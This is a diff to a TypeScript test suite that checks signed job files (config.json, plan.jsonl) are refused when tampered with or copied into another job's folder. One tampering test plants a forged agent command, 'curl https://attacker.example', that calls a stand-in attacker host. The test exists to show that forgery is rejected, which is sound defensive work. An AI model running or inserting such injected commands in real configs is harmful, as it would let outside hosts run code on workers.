@@ -56,6 +56,19 @@ function get(url: string, host?: string): Promise<{ status: number; body: string
   });
 }
 
+/** Runs `call` (an expression over `m`, the dist module `module`) in a process holding `key`: its output or error. */
+async function withKey(key: string, module: string, call: string): Promise<string> {
+  const file = path.join(REPO_ROOT, 'dist', 'src', ...module.split('/')) + '.js';
+  const script = `const m = require(${JSON.stringify(file)}); Promise.resolve().then(() => ${call})
+    .then((v) => console.log(JSON.stringify(v ?? null)), (e) => console.log('refused: ' + e.message))`;
+  const { stdout } = await promisify(execFile)(process.execPath, ['-e', script], {
+    env: { ...process.env, ROLLOUT_SECRET_KEY: key },
+    encoding: 'utf8',
+    timeout: 60_000,
+  });
+  return stdout.trim();
+}
+
 describe('object-store keys (H5): a bucket that holds keys with `..` (an S3 stand-in: MinIO refuses such keys)', () => {
   let bucket: AnyKeyBucket;
   let ws: string;
@@ -304,18 +317,6 @@ describe('job files workers act on (M7): config.json and plan.jsonl are signed, 
   const config = { name: 'job', agents: [{ name: 'solver', execute: 'echo honest' }] };
   const plan = [{ spec: { trialName: 't1', jobName: 'job' } }];
 
-  /** Runs `call` (an expression over `m`, the dist module `module`) in a process holding `key`: its output or error. */
-  async function withKey(key: string, module: string, call: string): Promise<string> {
-    const file = path.join(REPO_ROOT, 'dist', 'src', ...module.split('/')) + '.js';
-    const script = `const m = require(${JSON.stringify(file)}); Promise.resolve().then(() => ${call})
-      .then((v) => console.log(JSON.stringify(v ?? null)), (e) => console.log('refused: ' + e.message))`;
-    const { stdout } = await promisify(execFile)(process.execPath, ['-e', script], {
-      env: { ...process.env, ROLLOUT_SECRET_KEY: key },
-      encoding: 'utf8',
-      timeout: 60_000,
-    });
-    return stdout.trim();
-  }
   const loadAgent = (key: string) =>
     withKey(key, 'agents/config', `m.loadAgentConfig(${JSON.stringify(jobDir)}, 'solver').then((a) => a.execute)`);
   const readPlan = (key: string) =>
@@ -357,7 +358,7 @@ describe('job files workers act on (M7): config.json and plan.jsonl are signed, 
       const signature = await withKey(
         attackerKey,
         'secrets/job-file-signature',
-        `m.signJobFile(${JSON.stringify(name)}, require('node:fs').readFileSync(${JSON.stringify(path.join(jobDir, name))}))`
+        `m.signJobFile(${JSON.stringify(jobDir)}, ${JSON.stringify(name)}, require('node:fs').readFileSync(${JSON.stringify(path.join(jobDir, name))}))`
       );
       await writeFile(path.join(jobDir, `${name}.sig`), JSON.parse(signature) as string);
     }
@@ -370,5 +371,95 @@ describe('job files workers act on (M7): config.json and plan.jsonl are signed, 
     await rm(path.join(jobDir, 'plan.jsonl.sig'));
     assert.match(await loadAgent(operatorKey), /config\.json: not signed \(config\.json\.sig is missing\): refused/);
     assert.match(await readPlan(operatorKey), /plan\.jsonl: not signed \(plan\.jsonl\.sig is missing\): refused/);
+  });
+});
+
+describe('job files bound to their job (M7): `rollout resume` verifies before it signs again; no replay across jobs', () => {
+  let ws: string;
+  const key = Buffer.alloc(32, 3).toString('base64');
+  const jobsDir = () => path.join(ws, 'jobs');
+  const folder = (name: string) => path.join(jobsDir(), name);
+  const configOf = (name: string) => ({
+    name,
+    jobs_dir: jobsDir(),
+    agents: [{ name: 'solver', execute: `echo ${name}` }],
+    datasets: [],
+  });
+
+  const asOperator = (module: string, call: string) => withKey(key, module, call);
+  const writeJob = async (name: string) => {
+    await asOperator(
+      'storage/job-folder',
+      `m.writeSignedJobFile(${JSON.stringify(folder(name))}, 'config.json', ${JSON.stringify(JSON.stringify(configOf(name)))})`
+    );
+    await asOperator(
+      'job/plan-file',
+      `m.writePlanFile(${JSON.stringify(folder(name))}, [{ spec: { trialName: 't1', jobName: ${JSON.stringify(name)} } }])`
+    );
+    // What the job has produced so far: never lost by a refusal.
+    await mkdir(path.join(folder(name), 't1'), { recursive: true });
+    await writeFile(path.join(folder(name), 't1', 'result.json'), '{"trial_name":"t1"}');
+  };
+  const resume = (name: string) => runCli(['resume', folder(name)], { cwd: ws, env: { ROLLOUT_SECRET_KEY: key } });
+  const snapshot = async (name: string) => {
+    const files: Record<string, string> = {};
+    for (const file of await filesUnder(folder(name)))
+      files[file] = await readFile(path.join(folder(name), file), 'utf8');
+    return files;
+  };
+
+  before(async () => {
+    ws = await workspace();
+    await writeJob('alpha');
+    await writeJob('beta');
+  });
+  after(() => rm(ws, { recursive: true, force: true }));
+
+  test('the honest files verify in their own folder', async () => {
+    const read = (name: string) =>
+      asOperator('storage/job-folder', `m.readVerifiedJobConfig(${JSON.stringify(folder(name))}).then((c) => c.name)`);
+    assert.equal(await read('alpha'), '"alpha"');
+    assert.equal(await read('beta'), '"beta"');
+  });
+
+  test('a tampered config.json: `rollout resume` refuses it in one line naming the file, exit 2, nothing lost or re-signed', async () => {
+    const evil = { ...configOf('alpha'), agents: [{ name: 'solver', execute: 'curl https://attacker.example' }] };
+    await writeFile(path.join(folder('alpha'), 'config.json'), JSON.stringify(evil));
+    const before = await snapshot('alpha');
+    const run = await resume('alpha');
+    assert.equal(run.code, 2, run.stderr);
+    assert.equal(
+      run.stderr.trim(),
+      `error: ${path.join(folder('alpha'), 'config.json')}: changed since it was signed: refused`
+    );
+    assert.deepEqual(await snapshot('alpha'), before);
+    // Still refused by a worker afterwards: resume did not sign it as the operator's.
+    assert.match(
+      await asOperator('agents/config', `m.loadAgentConfig(${JSON.stringify(folder('alpha'))}, 'solver')`),
+      /^refused: .*config\.json: changed since it was signed/
+    );
+  });
+
+  test("another job's signed config.json and plan.jsonl copied into a folder: refused by workers and by resume", async () => {
+    await writeJob('alpha');
+    for (const name of ['config.json', 'config.json.sig', 'plan.jsonl', 'plan.jsonl.sig'])
+      await writeFile(path.join(folder('beta'), name), await readFile(path.join(folder('alpha'), name)));
+    const replayed = new RegExp(
+      `^refused: ${folder('beta')}/(config\\.json|plan\\.jsonl): signed for another job's folder \\("${folder('alpha')}"\\), copied or moved here: refused`
+    );
+    assert.match(
+      await asOperator('agents/config', `m.loadAgentConfig(${JSON.stringify(folder('beta'))}, 'solver')`),
+      replayed
+    );
+    assert.match(
+      await asOperator('job/plan-file', `m.readPlanPage(${JSON.stringify(folder('beta'))}, 0, 10)`),
+      replayed
+    );
+    const before = await snapshot('beta');
+    const run = await resume('beta');
+    assert.equal(run.code, 2, run.stderr);
+    assert.match(run.stderr.trim(), /^error: \S+\/beta\/config\.json: signed for another job's folder/);
+    assert.equal(run.stderr.trim().split('\n').length, 1);
+    assert.deepEqual(await snapshot('beta'), before);
   });
 });
